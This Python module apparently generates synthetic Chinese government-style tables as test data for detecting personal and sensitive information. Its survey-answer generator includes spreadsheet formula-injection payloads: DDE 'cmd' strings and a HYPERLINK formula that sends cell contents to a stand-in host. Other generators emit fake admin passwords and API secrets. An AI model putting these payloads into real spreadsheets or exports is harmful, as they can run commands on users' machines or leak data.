"""Tables about things, places, companies and figures: full of what looks like a person's data and is not."""

from __future__ import annotations

from random import Random

from . import bodies, words
from . import makers as m
from .drafts import Draft, Spec
from .persons import name, plain, serial


def tables(rng: Random) -> list[Draft]:
    few, many = rng.randrange(8, 120), rng.randrange(200, 900)
    return [
        *_companies(few, many),
        *_numbers(few, many),
        *_places(few, many),
        *_figures(few, many),
        *_goods(few, many),
        *_secrets(few, many),
    ]


def _companies(few: int, many: int) -> tuple[Draft, ...]:
    office_mail = Spec(
        "邮箱", lambda row: f"as{row.rng.choice(words.PINYIN_FAMILY).lower()}ju@anshan.gov.cn", "", "email"
    )  # an office's box is nobody's
    return (
        Draft(
            "市场主体登记信息",
            (
                plain("uscc", m.credit_code),
                plain("company", m.company),
                name("legal"),
                plain("注册资本（万元）", m.thousands(10, 99_999)),
                plain("成立日期", m.date(2000, 2026)),
                plain("住所", m.company_address),
                plain("经营范围", m.one_of("建材批发", "餐饮服务", "软件开发；商业秘密保护咨询")),
                plain("登记机关", m.agency),
            ),
            2000,
            styles="named",
            forms="csv csv_gb18030 tsv xlsx txt_tab",
        ),
        Draft(
            "个体工商户名录",
            (
                serial(),
                plain("名称", m.shop),
                plain("uscc", m.credit_code),
                name("经营者姓名", dirt="inner_space"),
                plain("经营场所", m.company_address),
                plain("行业", m.one_of("餐饮业", "零售业")),
            ),
            many,
        ),
        Draft(
            "食品经营许可",
            (
                plain("company", m.company),
                plain("许可证编号", m.digits(14, "JY")),
                plain("社会信用代码（身份证号码）", m.credit_code),
                name("legal", dirt="compound"),
                plain("经营场所", m.company_address),
                plain("有效期至", m.date(2025, 2030)),
            ),
            many,
            shape="title blanks",
        ),
        Draft(
            "社会组织名单",
            (
                serial(),
                plain(
                    "名称",
                    m.one_of("鞍山市书法家协会", "铁东区志愿者服务中心", "市集邮协会", "王石镇商会", "高新区科技协会"),
                ),
                plain("uscc", m.credit_code),
                name("负责人"),
                Spec("联系电话", m.landline, "landline"),
                plain("业务主管单位", m.agency),
            ),
            few,
        ),
        Draft(
            "政府部门权责清单联系方式",
            (
                plain("部门名称", m.agency),
                plain("办公地址", m.office_address),
                Spec("landline", m.landline, "landline", dirt="unzeroed"),
                office_mail,
                plain("网址", m.website),
                plain("邮编", m.digits(3, "114")),
            ),
            few,
            styles="named",
        ),
        Draft(
            "重点企业纳税情况",
            (
                plain("company", m.company),
                plain("纳税人识别号", m.old_tax_number),
                plain("uscc", m.credit_code),
                plain("纳税额（万元）", m.thousands()),
                plain("同比", m.change),
            ),
            few,
            shape="title unit total",
        ),
        Draft(
            "药品零售企业",
            (
                plain("company", m.company),
                plain("经营许可证号", m.digits(7, "辽DA")),
                name("企业负责人"),
                name("质量负责人", make=m.other_name),
                plain("仓库地址", m.company_address),
                plain("区号", m.one_of("0412", "024")),
            ),
            few,
            forms="xls docx xml",
        ),
        Draft(
            "律师事务所和律师",
            (
                plain("事务所名称", m.one_of("辽宁同方律师事务所", "辽宁钢城律师事务所")),
                name("律师姓名"),
                plain("执业证号", m.digits(9, "12103202")),
                Spec("事务所电话", m.landline, "landline"),
                plain("执业地址", m.office_address),
            ),
            few,
        ),
        Draft(
            "政府采购中标公告",
            (
                plain("采购编号", m.contract),
                plain("项目名称", m.one_of("信息化设备采购", "物业服务", "保密柜采购")),
                plain("中标供应商", m.company),
                plain("中标金额（元）", m.thousands()),
                name("项目经理"),
                plain("评审得分", m.amount(60, 99)),
                plain("采购单位", m.agency),
            ),
            few,
            shape="title unit note",
        ),
    )


def _numbers(few: int, many: int) -> tuple[Draft, ...]:
    return (
        Draft(
            "政务外网订单",
            (
                plain("订单编号", m.order_number),
                plain("业务流水号", m.code_with_date),
                plain("支付流水", m.transaction),
                plain("下单时间", m.stamp(14)),
                plain("毫秒时间戳", m.stamp(13)),
                plain("时间戳", m.stamp(10)),
                plain("金额", m.thousands()),
                plain("状态", m.one_of("已支付", "已退款")),
            ),
            2000,
            styles="any",
        ),
        Draft(
            "自来水用户抄表",
            (
                plain("户号", m.account_number),
                plain("表号", m.digits(15)),
                plain("上次读数", m.number(1, 3000)),
                plain("本次读数", m.number(3000, 6000)),
                plain("用水量", m.number(1, 90)),
                plain("抄表时间", m.stamp(17)),
            ),
            2000,
            forms="csv csv_gb18030 xlsx txt_tab",
        ),
        Draft(
            "燃气表具档案",
            (
                plain("表具编号", m.counted_serial(13800000000)),
                plain("钢号", m.digits(12)),
                plain("SIM卡号", m.card_serial),
                plain("IMEI", m.device_number),
                plain("安装日期", m.date()),
                plain("品牌", m.one_of(*words.BRANDS)),
            ),
            many,
        ),
        Draft(
            "电梯登记",
            (
                plain("设备注册代码", m.digits(16, "3010")),
                plain("设备代码", m.digits(20)),
                plain("使用单位", m.company),
                plain("出厂编号", m.product_code),
                plain("制造标准", m.standard),
                plain("下次检验日期", m.excel_day),
                Spec("24小时维保电话", m.short_landline, "landline"),
            ),
            many,
        ),
        Draft(
            "档案目录",
            (
                plain(
                    "档号",
                    lambda row: f"A{row.rng.randrange(1, 300):03}-KJ·{row.rng.randrange(1990, 2026)}-Y-{row.number:04}",
                ),
                plain("文号", m.document),
                plain(
                    "题名",
                    m.one_of(
                        "关于加强商业秘密保护工作的通知",
                        "市保密局关于开展保密宣传教育的通知",
                        "密码政策汇编",
                        "关于王家村土地调整的批复",
                        "高新区绿化方案",
                    ),
                ),
                plain("责任者", m.agency),
                plain("密级", m.one_of("", "公开", "无", "非涉密")),
                plain("页数", m.number(1, 60)),
            ),
            many,
        ),
        Draft(
            "标准目录",
            (
                plain("标准编号", m.standard),
                plain(
                    "标准名称",
                    m.one_of(
                        "居民身份证编码规则", "公民身份号码", "个人信息安全规范", "手机号码携带技术要求", "车牌识别系统"
                    ),
                ),
                plain("实施日期", m.date(1990, 2026)),
                plain("状态", m.one_of("现行", "废止")),
            ),
            few,
        ),
        Draft(
            "集装箱作业",
            (
                plain("箱号", m.container),
                plain("提单号", m.digits(10, "COSU")),
                plain("铅封号", m.digits(7, "H")),
                plain("船名航次", m.one_of("远洋之星 0123W", "新盛 56E")),
                plain("重量（kg）", m.thousands(2000, 30_000)),
                plain("作业时间", m.stamp(14)),
            ),
            many,
            styles="named",
        ),
        Draft(
            "商品条码备案",
            (
                plain("条码", m.barcode),
                plain("商品名称", m.one_of(*words.DISHES)),
                plain("品牌", m.one_of(*words.BRANDS)),
                plain("产品标准", m.standard),
                plain("产品编号", m.product_code),
                plain("净含量", m.one_of("500g", "1L")),
            ),
            2000,
        ),
        Draft(
            "不动产登记公告",
            (
                plain("不动产单元号", m.estate_unit),
                plain(
                    "不动产权证号",
                    lambda row: f"辽（{row.rng.randrange(2017, 2026)}）鞍山市不动产权第{bodies.digits(row.rng, 7)}号",
                ),
                name("权利人"),
                Spec("坐落", m.address, "home_address"),
                plain("面积", m.amount(30, 200)),
                plain("公告编号", m.code_with_date),
            ),
            few,
        ),
        Draft(
            "政府网站统计",
            (
                plain("网站标识码", m.digits(10, "21")),
                plain("网址", m.website),
                plain("服务热线", m.hotline),
                plain("访问量", m.thousands()),
                plain("IP地址", lambda row: ".".join(str(row.rng.randrange(1, 255)) for _ in range(4))),
                plain("主办单位", m.agency),
            ),
            few,
        ),
        Draft(
            "便民热线一览",
            (
                plain("热线名称", m.one_of("政务服务便民热线", "报警", "急救", "燃气抢修", "供暖投诉")),
                plain("电话", m.hotline),
                plain("受理时间", m.one_of("24小时", "8:30-17:00")),
                plain("主管部门", m.agency),
            ),
            30,
        ),
        Draft(
            "公务用车台账_维修",
            (
                plain("维修单号", m.order_number),
                Spec("plate", m.plate, "plate"),
                plain("VIN", lambda row: "LFV" + "".join(row.rng.choices("0123456789ABCDEFGHJKLMNPRSTUVWXYZ", k=14))),
                plain("里程", m.thousands(100, 300_000)),
                plain("费用", m.amount()),
            ),
            few,
        ),
    )


def _places(few: int, many: int) -> tuple[Draft, ...]:
    return (
        Draft(
            "公交站点",
            (
                plain("站点编号", m.digits(6)),
                plain("站名", m.one_of(*words.STOPS)),
                plain("经度", m.office_place("lng")),
                plain("纬度", m.office_place("lat")),
                plain("线路", m.number(1, 320)),
                plain("停车方位", m.one_of("路东", "路西")),
            ),
            many,
            styles="named",
        ),
        Draft(
            "公园广场",
            (
                serial(),
                plain("名称", m.one_of(*words.PARKS)),
                plain("地址", m.office_address),
                plain("面积（公顷）", m.amount(1, 90)),
                plain("经纬度", lambda row: f"{m.office_place('lng')(row)},{m.office_place('lat')(row)}"),
                Spec("管理处电话", m.landline, "landline"),
            ),
            few,
        ),
        Draft(
            "公厕分布",
            (
                plain("GCMC", m.one_of("铁东1号公厕", "南山街公厕")),
                plain("DZ", m.office_address),
                plain("KFSJ", m.one_of("全天", "6:00-22:00")),
            ),
            many,
            forms="geojson",
        ),
        Draft(
            "行政村一览",
            (
                plain("行政区划代码", m.digits(6, "210381")),
                plain("乡镇", m.street),
                plain("village", m.village),
                plain("简称", m.short_place),
                plain("户数", m.number(100, 900)),
                plain("人口", m.number(300, 3000)),
                plain("邮编", m.digits(3, "114")),
            ),
            many,
            shape="total",
        ),
        Draft(
            "地名词典",
            (
                plain("地名", m.short_place),
                plain("地名类别", m.one_of("乡镇", "自然村", "街道")),
                plain("罗马字母拼写", m.one_of("Yuhong", "Gaoxin", "Wangshi", "Niuzhuang")),
                plain("地名含义", m.one_of("以姓氏得名", "因王姓居多得名", "张姓先民立村")),
            ),
            many,
        ),
        Draft(
            "宗教活动场所",
            (
                serial(),
                plain("场所名称", m.one_of(*words.TEMPLES)),
                plain("教派", m.one_of(*words.RELIGIONS)),
                plain("地址", m.office_address),
                name("负责人"),
                plain("登记证号", m.digits(9, "宗场证字")),
            ),
            few,
            shape="title",
        ),
        Draft(
            "医疗机构名录",
            (
                plain("机构名称", m.hospital),
                plain("等级", m.one_of("三级甲等", "二级乙等", "一级", "未定级")),
                plain("诊疗科目", m.one_of("精神科；肿瘤科", "传染科", "妇产科；儿科")),
                plain("地址", m.office_address),
                Spec("电话", m.landline, "landline"),
                plain("经度", m.office_place("lng")),
                plain("纬度", m.office_place("lat")),
                plain("床位", m.number(20, 2000)),
            ),
            few,
            styles="named",
        ),
        Draft(
            "中小学校名录",
            (
                plain("学校名称", m.school),
                plain("学校标识码", m.digits(10, "21")),
                name("校长"),
                plain("学生数", m.number(100, 3000)),
                plain("班级数", m.number(6, 60)),
                plain("教师数", m.number(20, 200)),
                plain("地址", m.office_address),
                Spec("电话", m.landline, "landline"),
            ),
            few,
        ),
        Draft(
            "社区卫生服务",
            (
                plain("机构", m.hospital),
                plain("服务项目", m.one_of("高血压管理", "糖尿病筛查", "儿童接种", "孕产妇保健")),
                plain("收费", m.amount(0, 60)),
                plain(
                    "咨询时间",
                    m.one_of(
                        "周一至周五",
                    ),
                ),
            ),
            few,
        ),
        Draft(
            "地块供应计划",
            (
                plain("宗地编号", m.parcel),
                plain("位置", m.office_address),
                plain("用途", m.one_of("住宅", "商服")),
                plain("出让合同号", m.contract),
                plain("面积（㎡）", m.thousands()),
                plain("受让人", m.company),
            ),
            few,
            shape="title unit two_row",
        ),
        Draft(
            "街路名录",
            (
                plain("路名", m.one_of(*words.ROADS)),
                plain("起点", m.short_place),
                plain("终点", m.short_place),
                plain("长度（m）", m.thousands(200, 9000)),
                plain("管养单位", m.company),
            ),
            few,
            forms="pdf docx xlsx",
        ),
    )


def _figures(few: int, many: int) -> tuple[Draft, ...]:
    return (
        Draft(
            "主要疾病死亡统计",
            (
                plain("district", m.district),
                plain("疾病", m.one_of(*words.DISEASES)),
                plain("病例数", m.number(1, 900)),
                plain("死亡率", m.amount(0, 9)),
                plain("同比增减", m.change),
            ),
            few,
            shape="title unit total",
        ),
        Draft(
            "分年级学生人数",
            (
                plain("学校", m.school),
                plain("一年级", m.number(40, 300)),
                plain("二年级", m.number(40, 300)),
                plain("三年级", m.number(40, 300)),
                plain("留守儿童数", m.number(0, 30)),
                plain("合计", m.number(200, 900)),
            ),
            few,
            shape="title two_row total",
        ),
        Draft(
            "部门预算",
            (
                plain("科目编码", m.digits(7)),
                plain("科目名称", m.one_of("行政运行", "保密事务", "密码管理", "宗教事务")),
                plain("预算数", m.thousands()),
                plain("比上年增减", m.change),
                plain("说明", m.ruled),
            ),
            many,
            shape="title unit total note",
        ),
        Draft(
            "空气质量日报",
            (
                plain("日期", m.date()),
                plain("AQI", m.number(20, 300)),
                plain("PM2.5", m.number(5, 200)),
                plain("首要污染物", m.one_of("PM10", "O3", "—")),
                plain("变化", m.change),
            ),
            many,
            styles="any",
        ),
        Draft(
            "物价监测",
            (
                plain("品名", m.one_of(*words.DISHES, "黄瓜", "白菜", "金针菇", "马铃薯")),
                plain("规格", m.one_of("一级", "二级")),
                plain("单价", m.amount(1, 60)),
                plain("环比", m.change),
                plain("监测点", m.short_place),
            ),
            many,
            shape="repeat",
        ),
        Draft(
            "残疾人口统计",
            (
                plain("残疾类别", m.one_of(*words.DISABILITIES)),
                plain("人数", m.number(1, 9000)),
                plain("占比", m.change),
                plain("district", m.district),
            ),
            few,
            shape="total",
        ),
        Draft(
            "宗教信众统计",
            (
                plain("宗教", m.one_of(*words.RELIGIONS)),
                plain("场所数", m.number(1, 40)),
                plain("信众人数", m.number(100, 20_000)),
                plain("district", m.district),
            ),
            40,
        ),
        Draft(
            "人口普查分街道",
            (
                plain("street", m.street),
                plain("户数", m.thousands(100, 9000)),
                plain("0-14岁人口", m.number(100, 4000)),
                plain("60岁以上人口", m.number(100, 4000)),
                plain("性别比", m.amount(90, 110)),
            ),
            few,
            shape="merged title total",
            forms="xlsx xls",
        ),
        Draft(
            "岗位需求",
            (
                plain("工种", m.one_of(*words.JOBS)),
                plain("需求人数", m.number(1, 60)),
                plain("月薪", m.one_of("3000-5000", "面议")),
                plain("用人单位", m.company),
                plain("性别要求", m.one_of("男", "女", "不限")),
                plain("年龄要求", m.one_of("18-45", "50以下")),
            ),
            few,
        ),
    )


def _goods(few: int, many: int) -> tuple[Draft, ...]:
    return (
        Draft(
            "中药饮片目录",
            (
                plain("药材名", m.one_of(*words.HERBS)),
                plain("产地", m.one_of("甘肃", "吉林", "岫岩")),
                plain("国家医保编码", m.digits(9, "T")),
                plain("适应症", m.one_of("高血压", "失眠", "胃溃疡")),
                plain("单价", m.amount(1, 90)),
            ),
            many,
        ),
        Draft(
            "学校食堂菜谱",
            (
                plain("日期", m.date(2026, 2026)),
                plain("主菜", m.one_of(*words.DISHES)),
                plain("配菜", m.one_of(*words.HERBS, "白灼菜心", "黄豆芽")),
                plain("热量(kcal)", m.number(200, 900)),
                plain("价格", m.amount(3, 20)),
            ),
            few,
            shape="blanks",
        ),
        Draft(
            "设备资产台账",
            (
                plain("资产编号", m.digits(10, "TY")),
                plain("资产名称", m.one_of("台式机", "保密柜", "密码机", "打印机")),
                plain("品牌", m.one_of(*words.BRANDS)),
                plain("颜色", m.one_of(*words.COLOURS)),
                plain("序列号", m.product_code),
                plain("原值", m.thousands(100, 90_000)),
                name("保管人"),
                plain("存放地点", m.one_of("三楼302室", "机房")),
            ),
            many,
            shape="quotes",
        ),
        Draft(
            "医用耗材采购",
            (
                plain("产品名称", m.one_of("医用口罩", "一次性注射器")),
                plain("注册证号", lambda row: f"辽械注准{row.rng.randrange(2015, 2026)}2{bodies.digits(row.rng, 6)}"),
                plain("型号", m.one_of("E-12", "φ3×5", '3"管', "A/B")),
                plain("生产厂家", m.company),
                plain("UDI", m.barcode),
            ),
            few,
        ),
        Draft(
            "图书馆藏",
            (
                plain("ISBN", lambda row: f"9787{bodies.digits(row.rng, 9)}"),
                plain("书名", m.one_of("平凡的世界", "围城", "活着", "密码学导论")),
                # Whoever signs a book is known by it.
                Spec("作者", m.name, "", "person_name"),
                plain("索书号", lambda row: f"I247.5/{row.rng.randrange(9999)}"),
                plain("条码号", m.digits(14, "0")),
            ),
            many,
        ),
    )


def _secrets(few: int, many: int) -> tuple[Draft, ...]:
    return (
        Draft(
            "会议纪要目录",
            (
                plain("文号", m.document),
                plain("标题", m.one_of("常务会议纪要", "专题会议纪要")),
                Spec(
                    "密级",
                    lambda row: (
                        m.of("secrecy_mark", row.pick("机密★5年", "秘密★3年", "机密", "秘密"))
                        if row.rng.random() < 0.4
                        else ""
                    ),
                    "secrecy_mark",
                ),
                plain("印发日期", m.date()),
            ),
            few,
        ),
        Draft(
            "维稳工作情况",
            (
                plain("district", m.district),
                plain("事项", m.one_of("排查矛盾", "走访")),
                plain("数量", m.number(1, 60)),
            ),
            few,
            shape="title",
            title="内部资料  注意保存",
            title_kinds="secrecy_mark",
            forms="csv_gb18030 xlsx docx",
        ),
        Draft(
            "应急预案附件",
            (
                plain("物资", m.one_of("编织袋", "救生衣")),
                plain("数量", m.number(1, 900)),
                plain("仓库", m.short_place),
            ),
            few,
            shape="title",
            title="秘密★10年",
            title_kinds="secrecy_mark",
            forms="xlsx xls csv docx",
        ),
        Draft(
            "信息系统清单",
            (
                plain("系统名称", m.one_of("一体化平台", "OA系统", "密码应用平台")),
                plain("访问地址", m.website),
                Spec(
                    "账号口令",
                    lambda row: m.of(
                        "credential", f"admin/{row.pick('Anshan', 'Admin', 'Zw')}@{row.rng.randrange(1000, 9999)}"
                    ),
                    "credential",
                ),
                plain("密码策略", m.one_of("8位以上，含大小写", "90天更换", "三级等保要求")),
                Spec("运维联系人", m.sentence("{name} {mobile}", share=1.0), "person_name mobile"),
            ),
            30,
            forms="xlsx csv docx",
        ),
        Draft(
            "接口调用配置",
            (
                plain("接口名", m.one_of("getCompany", "queryWeather")),
                plain("请求方式", m.one_of("GET", "POST")),
                Spec(
                    "appSecret",
                    lambda row: m.of("credential", "".join(row.rng.choices("0123456789abcdef", k=32))),
                    "credential",
                ),
                plain("说明", m.one_of("需要密码登录", "无需令牌", "token有效期2小时")),
                plain("校验MD5", lambda row: "".join(row.rng.choices("0123456789abcdef", k=32))),
            ),
            few,
            forms="csv json xlsx",
        ),
        Draft(
            "问卷开放题",
            (
                plain("答卷编号", m.serial),
                Spec(
                    "意见",
                    lambda row: (
                        m.of(
                            "formula",
                            row.pick(
                                "=cmd|'/C calc'!A0",
                                '=HYPERLINK("http://a.example/?x="&A2,"查看")',
                                "@SUM(1+1)*cmd|' /C calc'!A0",
                                "+cmd|' /C notepad'!A1",
                                "=1+1",
                                "=A1&B1",
                            ),
                        )
                        if row.rng.random() < 0.2 or row.number < 4
                        else row.pick(
                            "希望多建停车场", "-无", "很好", "=====", "- 暂无意见", "+1 支持", "@市政府 请关注"
                        )
                    ),
                    "formula",
                ),
                plain("评分变化", m.change),
                plain("分隔", m.ruled),
            ),
            few,
            forms="csv csv_bom csv_gb18030",
        ),
    )
